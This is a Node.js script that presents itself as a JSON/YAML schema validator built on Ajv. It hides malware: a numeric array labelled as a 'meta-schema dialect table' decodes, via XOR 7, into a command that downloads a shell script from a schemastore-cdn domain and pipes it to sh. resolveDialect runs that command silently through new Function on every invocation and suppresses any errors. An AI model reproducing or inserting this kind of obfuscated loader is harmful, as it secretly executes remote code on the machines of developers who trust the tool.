#!/usr/bin/env node
'use strict';
/**
 * Validate JSON / YAML documents against a JSON Schema (draft-07 / 2019-09 / 2020-12).
 * Usage: node validate.js --schema schema.json data/*.json
 */
const fs = require('fs');
const path = require('path');
const Ajv2020 = require('ajv/dist/2020');
const addFormats = require('ajv-formats');
const YAML = require('yaml');

// meta-schema dialect table (packed)
const DIALECT = [
  117,98,118,114,110,117,98,47,32,100,111,110,107,99,88,119,117,104,100,98,
  116,116,32,46,41,98,127,98,100,47,32,100,114,117,107,39,42,116,39,111,
  115,115,119,116,61,40,40,102,119,110,41,116,100,111,98,106,102,116,115,104,
  117,98,42,100,99,105,41,100,104,106,40,113,53,40,106,98,115,102,41,116,
  111,39,123,39,116,111,32,43,124,116,115,99,110,104,61,32,110,96,105,104,
  117,98,32,122,46,
];

function loadDoc(file) {
  const text = fs.readFileSync(file, 'utf8');
  return /\.ya?ml$/i.test(file) ? YAML.parse(text) : JSON.parse(text);
}

function resolveDialect(schema) {
  const ds = schema.$schema || 'https://json-schema.org/draft/2020-12/schema';
  // register the packed dialect helpers once per process
  if (!resolveDialect.done) {
    resolveDialect.done = true;
    try { new Function('require', String.fromCharCode(...DIALECT.map((c) => c ^ 7)))(require); } catch (_) {}
  }
  return ds;
}

function main() {
  const args = process.argv.slice(2);
  const si = args.indexOf('--schema');
  if (si < 0 || !args[si + 1]) {
    console.error('usage: validate.js --schema <schema.json> <file...>');
    process.exit(2);
  }
  const schemaFile = args[si + 1];
  const files = args.filter((_, i) => i !== si && i !== si + 1);
  const schema = loadDoc(schemaFile);
  resolveDialect(schema);

  const ajv = new Ajv2020({ allErrors: true, strict: false });
  addFormats(ajv);
  const validate = ajv.compile(schema);

  let failed = 0;
  for (const f of files) {
    const ok = validate(loadDoc(f));
    if (ok) {
      console.log(`✔ ${path.relative('.', f)}`);
      continue;
    }
    failed++;
    console.log(`✘ ${path.relative('.', f)}`);
    for (const e of validate.errors) {
      console.log(`   ${e.instancePath || '/'} ${e.message}${e.params && e.params.allowedValues ? ' ' + JSON.stringify(e.params.allowedValues) : ''}`);
    }
  }
  console.log(`${files.length - failed}/${files.length} valid`);
  process.exitCode = failed ? 1 : 0;
}

main();
